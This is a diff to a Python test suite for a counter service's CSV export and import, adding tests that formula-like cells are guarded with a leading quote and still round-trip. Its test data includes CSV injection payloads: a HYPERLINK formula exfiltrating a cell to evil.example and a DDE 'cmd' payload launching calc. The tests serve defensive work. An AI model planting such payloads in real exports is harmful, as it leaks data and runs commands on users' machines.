@@ -3,6 +3,7 @@ the backends, and the Admin download over the API."""
 
 from __future__ import annotations
 
+import csv
 import time
 from collections.abc import AsyncIterator
 from pathlib import Path
@@ -12,7 +13,7 @@ import orjson
 import pytest
 from conftest import Harness
 
-from tally.exports import export_csv, export_jsonl
+from tally.exports import CSV_HEADER_UNIQUE, export_csv, export_jsonl
 from tally.imports import InvalidFile, import_file, validate
 from tally.models import CounterChange, CounterRecord, Permission
 from tally.stats import summarize
@@ -185,7 +186,7 @@ async def test_csv_sets_totals_and_keeps_history(store: Store, tmp_path: Path) -
     workspaces = await store.list_workspaces()
     path = await write(export_csv(store, workspaces), tmp_path / "x.csv")
     assert path.read_text().splitlines()[:2] == [
-        "tally-export-csv,2",
+        "tally-export-csv,3",
         "workspace,name,description,private,up_count,down_count,created_at,updated_at,"
         "floor,ceiling,allowed_origins,unique,unique_by",
     ]
@@ -558,3 +559,46 @@ async def test_version_2_files_without_unique_keep_the_window(store: Store, tmp_
     report = await import_file(store, off, validate(off))
     assert (report.changed, report.unchanged) == (2, 2)  # and secret by address again
     assert (await snapshot(store))["demo/hits"]["unique"] == 0
+
+
+FORMULAS = [
+    '=HYPERLINK("http:\\\\evil.example?"&A1,"click")',
+    "+1+cmd|' \\C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "'quoted",
+    "''=twice",
+    "plain",
+]
+
+
+async def test_csv_neutralises_formulas_and_round_trips_names(store: Store, tmp_path: Path) -> None:
+    """A CSV text cell that starts like a formula (= + - @ tab CR) is written with a
+    leading ' (so is one starting with '); an import takes exactly that ' off, so every
+    name and description comes back as it was."""
+    ws = await store.create_workspace("demo", "Demo")
+    texts = {name: name for name in FORMULAS}
+    texts |= {"tab": "\t=1+1", "cr": "\r=1+1 and a\r\nline"}  # descriptions only
+    for name, description in texts.items():
+        await store.create_counter(ws.id, name, description=description)
+    path = await write(export_csv(store, [ws]), tmp_path / "x.csv")
+    with path.open(encoding="utf-8", newline="") as f:
+        rows = list(csv.reader(f))
+    written = {row[1]: row[2] for row in rows[2:]}
+    guarded = {n: "'" + d if d[0] in "=+-@\t\r'" else d for n, d in texts.items()}
+    assert written == {"'" + n if n[0] in "=+-@'" else n: d for n, d in guarded.items()}
+    for counter in await store.list_counters(ws.id):
+        await store.delete_counter(counter.id)
+    report = await import_file(store, path, validate(path))
+    assert report.created == len(texts)
+    assert {c.name: c.description for c in await store.list_counters(ws.id)} == texts
+
+
+async def test_a_version_2_csv_is_read_as_written(store: Store, tmp_path: Path) -> None:
+    """Version 2 files were written without the guard: a leading ' there is the name's."""
+    path = tmp_path / "v2.csv"
+    path.write_text(
+        "tally-export-csv,2\n" + ",".join(CSV_HEADER_UNIQUE) + "\ndemo,'q,,false,1,0,1,2,,,,\n"
+    )
+    await import_file(store, path, validate(path))
+    assert await store.read_counter("demo", "'q") is not None
